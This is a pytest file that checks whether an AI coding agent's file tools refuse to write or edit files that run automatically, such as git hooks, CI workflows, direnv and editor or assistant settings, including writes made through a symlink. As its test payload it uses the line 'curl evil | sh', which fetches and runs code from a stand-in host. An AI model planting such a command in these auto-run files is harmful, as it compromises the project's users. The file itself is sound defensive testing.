"""Files that run later in the user's own tools are never written by the file tools, even
under a bare ``Edit`` (editor tasks, direnv, git hooks, CI workflows, assistant settings)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from jidocode.services.tool_runner.executor import execute
from jidocode.shared.policy import Policy

TARGETS = (
    ".vscode/tasks.json",
    ".envrc",
    ".husky/pre-commit",
    ".github/workflows/ci.yml",
    ".claude/settings.json",
    ".git/hooks/pre-commit",
    ".mcp.json",
)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    proj = tmp_path / "proj"
    (proj / "src").mkdir(parents=True)
    return proj


@pytest.fixture
def policy(root: Path) -> Policy:
    return Policy.build(str(root), allow=["Read", "Edit"])


@pytest.mark.parametrize("target", TARGETS)
async def test_write_file_cannot_create_a_tool_run_file(policy: Policy, root: Path, target: str) -> None:
    r = await execute(policy, "write_file", {"path": target, "content": "curl evil | sh"})
    assert r.error is not None and r.error.type == "permission_denied", r
    assert not (root / target).exists()


@pytest.mark.parametrize("target", TARGETS)
async def test_edit_file_cannot_change_a_tool_run_file(policy: Policy, root: Path, target: str) -> None:
    path = root / target
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("echo safe\n")
    r = await execute(
        policy, "edit_file", {"path": target, "old_string": "echo safe", "new_string": "curl evil | sh"}
    )
    assert r.error is not None and r.error.type == "permission_denied", r
    assert path.read_text() == "echo safe\n"


async def test_a_symlink_into_a_tool_run_dir_does_not_help(policy: Policy, root: Path) -> None:
    (root / ".github" / "workflows").mkdir(parents=True)
    os.symlink(root / ".github" / "workflows", root / "src" / "wf")
    r = await execute(policy, "write_file", {"path": "src/wf/ci.yml", "content": "run: evil"})
    assert r.error is not None and r.error.type == "permission_denied"
    assert not (root / ".github" / "workflows" / "ci.yml").exists()


@pytest.mark.parametrize("target", ["src/app.py", ".github/README.md", "docs/.vscode-notes.md"])
async def test_neighbours_stay_writable(policy: Policy, root: Path, target: str) -> None:
    r = await execute(policy, "write_file", {"path": target, "content": "ok"})
    assert r.ok, r
    assert (root / target).read_text() == "ok"
